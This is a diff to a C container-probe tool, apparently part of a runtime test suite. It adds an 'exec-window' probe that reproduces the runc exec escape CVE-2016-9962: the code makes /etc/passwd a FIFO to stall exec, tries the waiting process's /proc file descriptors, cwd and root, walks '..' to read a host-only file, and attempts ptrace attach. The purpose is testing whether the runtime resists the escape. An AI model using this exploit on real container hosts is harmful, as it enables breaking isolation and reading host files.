@@ -47,6 +47,15 @@
  *                          become uid 65534 without capabilities; high: the request with
  *                          bits above its low 32 set (the kernel ignores them)
  *   probe ioctl tioclinux  ioctl(0, TIOCLINUX): tioclinux=ok|<errno>
+ *   probe exec-window HOSTPATH
+ *                          the attacker of exec's window (run with --tmpfs /etc): make
+ *                          /etc/passwd a FIFO, print "ready", wait for another process to
+ *                          appear (an exec blocked reading /etc/passwd, with -u) and, while
+ *                          it waits, try its /proc/PID/fd (fd_open=ok|<errno>, fds=...), every fd, its
+ *                          cwd and root: walk ".." up from each directory and read HOSTPATH
+ *                          (a file only the host has): escaped=1 via=WHAT content=LINE or
+ *                          escaped=0; ptrace=ok|<errno> (PTRACE_SEIZE); then write root's
+ *                          line into the FIFO, leave a plain /etc/passwd and hold
  *   probe open PATH        open it read-only (O_NONBLOCK) and close it: open=ok|<errno>
  *   probe device TYPE MAJOR MINOR
  *                          make a node (TYPE c or b) at /dev/probe-node, then open it for
@@ -695,6 +704,139 @@ static int ioctl_try(const char *name)
     return 0;
 }
 
+/* From a directory fd, walk ".." to the top of its filesystem tree, then
+ * read `host_path` there: 1 and its first line when it exists, i.e. the
+ * directory was a way out to the host's "/". */
+static int walk_out(int dir, const char *host_path, char *line, size_t len)
+{
+    int cur = dup(dir), file;
+    FILE *f;
+
+    for (int up = 0; cur >= 0 && up < 64; up++) {
+        int next = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
+        close(cur);
+        cur = next;
+    }
+    if (cur < 0)
+        return 0;
+    file = openat(cur, host_path + 1, O_RDONLY | O_CLOEXEC);
+    close(cur);
+    if (file < 0 || (f = fdopen(file, "r")) == NULL)
+        return 0;
+    line[0] = '\0';
+    if (fgets(line, (int)len, f) != NULL)
+        line[strcspn(line, "\n")] = '\0';
+    fclose(f);
+    return 1;
+}
+
+/* CVE-2016-9962 (runc exec): between joining the container and execve, the
+ * runtime's process is in the container, root with the host's
+ * capabilities, and holds whatever fds it had. The container's root may
+ * look at it through /proc while it waits for the container's own
+ * /etc/passwd, which the attacker made a FIFO. */
+static int exec_window(const char *host_path)
+{
+    static const char passwd[] = "root:x:0:0:root:/root:/bin/sh\n";
+    char path[300], line[256], via[300] = "";
+    int escaped = 0, self = getpid(), pid = 0, fd;
+    long long deadline = now_ms() + 20000;
+    DIR *d;
+    struct dirent *e;
+
+    if (mkfifo("/etc/passwd", 0644) < 0) {
+        printf("exec_window=%s\n", errname(errno));
+        return 1;
+    }
+    printf("ready\n");
+    fflush(stdout);
+    while (pid == 0 && now_ms() < deadline) {
+        DIR *proc = opendir("/proc");
+
+        while (proc != NULL && (e = readdir(proc)) != NULL)
+            if (atoi(e->d_name) > 1 && atoi(e->d_name) != self)
+                pid = atoi(e->d_name);
+        if (proc != NULL)
+            closedir(proc);
+        if (pid == 0)
+            usleep(1000);
+    }
+    printf("window_pid=%d\n", pid);
+    if (pid == 0)
+        return 1;
+    usleep(100000); /* well inside the window: it waits on the FIFO */
+    /* Listing /proc/PID/fd is root's (its owner); opening an entry is a
+     * ptrace access check, the one that counts. */
+    snprintf(path, sizeof(path), "/proc/%d/fd/0", pid);
+    fd = open(path, O_PATH | O_CLOEXEC);
+    printf("fd_open=%s\n", fd >= 0 ? "ok" : errname(errno));
+    if (fd >= 0)
+        close(fd);
+    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+    d = opendir(path);
+    printf("fds=");
+    while (d != NULL && (e = readdir(d)) != NULL) {
+        struct stat st;
+
+        if (e->d_name[0] == '.')
+            continue;
+        printf("%s ", e->d_name);
+        snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
+        fd = open(path, O_PATH | O_CLOEXEC);
+        if (fd >= 0 && fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && !escaped &&
+            walk_out(fd, host_path, line, sizeof(line))) {
+            escaped = 1;
+            snprintf(via, sizeof(via), "fd %s", e->d_name);
+        }
+        if (fd >= 0)
+            close(fd);
+    }
+    printf("\n");
+    if (d != NULL)
+        closedir(d);
+    for (int i = 0; i < 2 && !escaped; i++) {
+        snprintf(path, sizeof(path), "/proc/%d/%s", pid, i ? "root" : "cwd");
+        fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
+        if (fd >= 0 && walk_out(fd, host_path, line, sizeof(line))) {
+            escaped = 1;
+            snprintf(via, sizeof(via), "%s", i ? "root" : "cwd");
+        }
+        if (fd >= 0)
+            close(fd);
+    }
+    /* PTRACE_ATTACH stops it: wait for the stop, then let it go. */
+    if (syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, pid, 0, 0) == 0) {
+        printf("ptrace=ok\n");
+        waitpid(pid, NULL, __WALL);
+        syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, pid, 0, 0);
+    } else {
+        printf("ptrace=%s\n", errname(errno));
+    }
+    if (escaped)
+        printf("escaped=1\nvia=%s\ncontent=%s\n", via, line);
+    else
+        printf("escaped=0\n");
+    fflush(stdout);
+    /* Let exec go on: the FIFO has its reader; later opens get a file. */
+    fd = open("/etc/passwd", O_WRONLY | O_CLOEXEC);
+    unlink("/etc/passwd");
+    {
+        int file = open("/etc/passwd", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
+
+        if (file >= 0) {
+            (void)!write(file, passwd, strlen(passwd));
+            close(file);
+        }
+    }
+    if (fd >= 0) {
+        (void)!write(fd, passwd, strlen(passwd));
+        close(fd);
+    }
+    while (read(0, line, 1) > 0) /* hold until stdin closes */
+        ;
+    return 0;
+}
+
 static int open_path(const char *path)
 {
     int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
@@ -850,6 +992,8 @@ int main(int argc, char **argv)
         return tiocsti(argv[2], argc > 3 ? argv[3] : NULL);
     else if (strcmp(cmd, "ioctl") == 0 && argc > 2)
         return ioctl_try(argv[2]);
+    else if (strcmp(cmd, "exec-window") == 0 && argc > 2)
+        return exec_window(argv[2]);
     else if (strcmp(cmd, "open") == 0 && argc > 2)
         return open_path(argv[2]);
     else if (strcmp(cmd, "device") == 0 && argc > 4)
